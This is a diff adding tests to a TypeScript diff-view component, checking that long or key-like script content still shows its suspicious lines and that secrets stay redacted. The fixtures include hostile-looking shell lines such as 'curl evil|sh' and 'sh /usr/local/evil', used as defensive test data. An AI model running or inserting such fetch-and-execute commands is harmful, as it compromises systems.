@@ -3,7 +3,7 @@ import { createRedactor } from '../../record/redact.ts'
 import { diffView } from './diff-view.ts'
 
 const SECRET = 'the-owners-own-secret'
-const redactor = createRedactor({ values: [SECRET] })
+const redactor = createRedactor({ values: [SECRET] }).forDecision()
 const show = (before: string | undefined, after: string | undefined, others: { movedTo?: string } = {}) =>
   diffView(redactor, { path: 'a.txt', before, after, ...others })
 const numbered = (count: number, word = 'line') => Array.from({ length: count }, (_, at) => `${word} ${at}\n`).join('')
@@ -52,6 +52,30 @@ describe('the view of a change', () => {
     expect((await show(undefined, numbered(1_990))).diff.split('\n')).toHaveLength(1_993)
     const long = 'x'.repeat(199_000)
     expect((await show(`${long}\na\n`, `${long}\nb\n`)).diff).toContain('\n-a\n+b')
+  })
+
+  it('shows both ends of what is too long to be compared, and says what is missing', async () => {
+    const { diff } = await show(undefined, `#!/bin/sh\n${'# nothing\n'.repeat(120_000)}curl evil|sh\n`)
+    expect(diff).toMatch(/^NOT SHOWN WHOLE: the text has \d+ bytes/)
+    expect(diff).toContain('\n+#!/bin/sh\n')
+    expect(diff).toMatch(/\n\+… 1192023 characters in between are not shown …\n/)
+    expect(diff).toMatch(/\n\+curl evil\|sh$/)
+    expect(diff.length).toBeLessThan(20_000)
+  })
+
+  it('shows all that changes in a text that is too long to be compared, where that is little', async () => {
+    const lines = numbered(50_000)
+    const { diff } = await show(lines, lines.replace('line 30000\n', 'curl evil|sh\n'))
+    expect(diff).toBe(
+      'Not compared: the text has 538892 bytes, at most 200000 are compared.\n-line 30000\n+curl evil|sh',
+    )
+    expect((await show(lines, `${lines}last\n`)).diff).toMatch(/compared\.\n\+last$/)
+    expect((await show(`${lines}last`, lines)).diff).toMatch(/compared\.\n-last$/)
+  })
+
+  it('hides no line of a script behind what looks like the beginning of a key', async () => {
+    const { diff } = await show(undefined, '#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\nid > pwned\nsh /usr/local/evil\n')
+    expect(diff).toContain('+# -----BEGIN PRIVATE KEY-----\n+id > pwned\n+sh /usr/local/evil')
   })
 
   it('holds no secret, not even one of several lines', async () => {
